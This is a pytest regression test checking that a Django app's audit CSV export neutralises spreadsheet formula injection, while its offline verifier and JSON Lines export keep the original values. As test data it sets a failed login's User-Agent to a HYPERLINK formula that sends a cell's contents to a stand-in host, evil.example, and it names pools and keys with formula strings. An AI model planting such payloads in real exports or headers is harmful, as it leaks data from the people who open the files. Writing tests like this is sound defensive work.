"""Formula injection in the audit CSV (issue 39, item 5), against the live server.

Reproduced before the fix: a failed login with ``User-Agent: =HYPERLINK("http://evil…"&A2,"x")``,
or a pool or API key named ``=1+1``, ``+SUM(1,1)``, ``-2+3``, ``@SUM(1)``, ``\\t=1+1``, landed as is
in ``/audit/export.csv``: the formula runs when an auditor opens the file in a spreadsheet. Now
every such cell starts with an apostrophe (OWASP), the offline verifier reads the original value
back and still verifies the export, and the JSON Lines export keeps the values byte for byte.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import httpx
import pytest
from django.db import transaction
from django.test import Client

from apps.audit.events import AuditEventType
from apps.audit.services import audit_record
from tests.audit.offline import verify_offline
from tests.factories.api import make_api_key

pytestmark = [pytest.mark.runtime, pytest.mark.django_db(transaction=True)]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
NAMES = ["=1+1", "+SUM(1,1)", "-2+3", "@SUM(1)"]
TAB_NAME = "\t=1+1"
CR_NAME = "\r=1+1"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _failed_login(base: str) -> None:
    with httpx.Client(base_url=base, headers={"User-Agent": HYPERLINK}, timeout=30) as http:
        page = http.get("/accounts/login/")
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
        assert token is not None
        response = http.post(
            "/accounts/login/",
            data={"username": "nobody", "password": "wrong", "csrfmiddlewaretoken": token.group(1)},
            headers={"Referer": f"{base}/accounts/login/"},
        )
        assert response.status_code == 200 and "match. Please try again" in response.text, response.text[
            -1500:
        ]


def test_formulas_reach_the_audit_csv_neutralised_and_the_export_still_verifies(
    daphne_server: Any, alpha: Any, team_admin: Any, superuser: Any, tmp_path: Path
) -> None:
    base = daphne_server.url
    _failed_login(base)
    admin_key = make_api_key(alpha, role="admin", principal=team_admin).plaintext
    with httpx.Client(base_url=base, headers={"Authorization": f"Bearer {admin_key}"}, timeout=30) as api:
        for i, name in enumerate(NAMES):
            created = api.post("/api/pools/", json={"slug": f"formula-{i}", "name": name, "team": "alpha"})
            assert created.status_code == 201, created.text
            created = api.post("/api/teams/alpha/keys/", json={"name": name, "scopes": ["runs:read"]})
            assert created.status_code == 201, created.text
    # Names lose leading whitespace in every form, API and service: a value that starts with a tab
    # or a carriage return is written the one way every column is, audit_record (as a future
    # feature's would be).
    for value in (TAB_NAME, CR_NAME):
        with transaction.atomic():
            audit_record(
                event_type=AuditEventType.POOL_UPDATED,
                team=alpha,
                object_type="workers.pool",
                object_repr=value,
            )

    session = Client()
    session.force_login(superuser)
    cookies = {"sessionid": session.cookies["sessionid"].value}
    exported = httpx.get(f"{base}/audit/export.csv", cookies=cookies, timeout=60)
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text, newline="")) for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert dangerous == [], dangerous[:5]  # no cell a spreadsheet would evaluate
    assert "'" + HYPERLINK in cells  # the failed login's user agent, neutralised
    for name in [*NAMES, TAB_NAME, CR_NAME]:
        assert "'" + name in cells  # the pool (object_repr is its name)
    for name in NAMES:
        assert any(cell.startswith("'" + name + " (") for cell in cells)  # the key: "<name> (<prefix>…)"

    path = tmp_path / "audit.csv"
    path.write_bytes(exported.content)
    result = verify_offline(path, "--contiguous")
    assert result.returncode == 0, result.stderr  # read back, the cells equal what the log committed

    jsonl = httpx.get(f"{base}/audit/export.jsonl", cookies=cookies, timeout=60)
    contents = [json.loads(line)["content"] for line in jsonl.text.splitlines() if line.startswith('{"seq"')]
    assert HYPERLINK in {c["user_agent"] for c in contents}  # JSON Lines: the values as they are
    assert {*NAMES, TAB_NAME, CR_NAME} <= {c["object_repr"] for c in contents}
    assert f'"user_agent":{json.dumps(HYPERLINK)}'.encode() in jsonl.content  # byte-exact, no apostrophe
